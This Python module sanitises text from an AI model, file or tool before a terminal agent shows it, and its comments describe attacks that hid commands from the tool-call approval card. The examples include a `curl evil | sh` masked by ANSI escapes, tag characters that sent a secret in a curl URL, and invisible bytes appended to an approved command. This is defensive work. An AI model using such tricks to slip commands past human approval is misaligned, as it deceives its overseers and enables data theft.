"""Text from the model, a file or a tool, made safe to draw: control characters shown, not sent.

Without Textual: the chat's widgets (ui/visible.py adds plain() for them) and `thau -m`,
which prints the same text to the terminal, use it.

Textual passes an escape character through to the terminal. A call whose command reads
`curl evil | sh` followed by ESC[28D ESC[0K and `ls -la` drew as `ls -la` on the approval
card; an OSC 52 sequence in a file that read_file returned (no approval) set the clipboard in
many terminals; bidi controls reorder what a line seems to say; U+2028/U+2029 broke a
command's line on the card while bash saw one word, and zero-width characters made a path
look like another. Every such character is drawn as a visible stand-in instead: C0 controls
as their Unicode control pictures (ESC as ␛), DEL as ␡, C1, bidi, line-separator and
zero-width characters as <U+XXXX>. Newlines and tabs stay. The zero-width joiner and
non-joiner stay between two letters beyond ASCII (emoji and several scripts need them), and
one emoji presentation selector (U+FE0F, "❤️") right after the character it dresses.
"""

from __future__ import annotations

import json
import re
from typing import Any

_BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
# Line and paragraph separators, zero-width space, word joiner, byte-order mark, soft hyphen.
_INVISIBLE = "\u2028\u2029\u200b\u2060\ufeff\u00ad"
# The rest of Unicode's default-ignorable code points, which terminals draw as nothing: the
# tag characters (U+E0020-E007F spell ASCII unseen: `curl https://x/` plus 38 of them sent
# a secret in the URL while the card showed a plain one), variation selectors, invisible
# operators, fillers. The joiners U+200C/U+200D stay (emoji, several scripts).
_IGNORABLE = (
    "\u034f\u115f\u1160\u17b4\u17b5\u180b-\u180f\u2061-\u206f\u3164\ufe00-\ufe0d\uffa0\ufff0-\ufff8"
    "\U0001bca0-\U0001bca3\U0001d173-\U0001d17a\U000e0000-\U000e0fff"
)
# Lone surrogates (JSON lets a server or a model write "\\ud800"): no terminal can be sent
# one, and `thau -m` died of a UnicodeEncodeError printing it.
_SURROGATES = "\ud800-\udfff"
_SHOWN_AS = f"\x00-\x08\x0b-\x1f\x7f-\x9f{_BIDI}{_INVISIBLE}{_IGNORABLE}{_SURROGATES}"
# Two marks that dress the character before them stay where they do so, and only there (both
# are drawn as nothing, so anywhere else they are a hidden channel: an approved `cat notes.txt`
# followed by a run of them sent bash 33 bytes the card did not show: attacker re-review):
# - U+FE0E/U+FE0F (text or emoji presentation), once, right after a drawn character beyond
#   ASCII: how "❤️" and "✔️" are written (emoji pickers add it);
# - the joiners U+200C/U+200D, singly, between two drawn characters beyond ASCII (emoji
#   sequences such as "👨‍👩‍👧", after U+FE0F too; Persian and Indic words).
# After ASCII, at an edge, beside a space or a stand-in, or in a run, they are shown.
_PRESENTATION = "\ufe0e\ufe0f"
_JOINERS = "\u200c\u200d"
_PLAIN = f"\x00-\x7f{_SHOWN_AS}\\s"  # what no mark dresses
_CONTROL = re.compile(
    f"[{_SHOWN_AS}]"
    f"|[{_PRESENTATION}](?=[\ufe00-\ufe0f])"
    f"|(?<![^{_PLAIN}{_JOINERS}\ufe00-\ufe0f])[{_PRESENTATION}]"
    f"|(?<![^{_PLAIN}{_JOINERS}])[{_JOINERS}]"
    f"|[{_JOINERS}](?![^{_PLAIN}{_JOINERS}\ufe00-\ufe0f])"
)


def _stand_in(match: re.Match[str]) -> str:
    char = match.group()
    code = ord(char)
    if code < 0x20:
        return chr(0x2400 + code)
    if code == 0x7F:
        return "\u2421"
    return f"<U+{code:04X}>"


def visible(text: str) -> str:
    """`text` with every control character but newline and tab drawn as a visible stand-in."""
    return _CONTROL.sub(_stand_in, text) if _CONTROL.search(text) else text


def has_controls(value: Any) -> bool:
    """Whether a string anywhere in `value` (a call's arguments) holds such a character."""
    if isinstance(value, str):
        return _CONTROL.search(value) is not None
    if isinstance(value, dict):
        return any(has_controls(k) or has_controls(v) for k, v in value.items())
    if isinstance(value, (list, tuple)):
        return any(has_controls(v) for v in value)
    return False


def editable_json(value: Any) -> str:
    """`value` as indented JSON for an edit box: accents kept as they are, but each character
    `visible` stands in for written as a \\u escape, so the box shows it (a raw bidi control
    reordered the line, a U+2028 split it) and json.loads gives the same value back."""
    text = json.dumps(value, indent=2, ensure_ascii=False)
    return _CONTROL.sub(lambda match: _json_escape(match.group()), text)


def _json_escape(char: str) -> str:
    """A \\u escape json.loads reads back: beyond U+FFFF, a surrogate pair (a plain
    \\ue0041 would read as U+E004 and a "1")."""
    code = ord(char)
    if code <= 0xFFFF:
        return f"\\u{code:04x}"
    code -= 0x10000
    return f"\\u{0xD800 + (code >> 10):04x}\\u{0xDC00 + (code & 0x3FF):04x}"
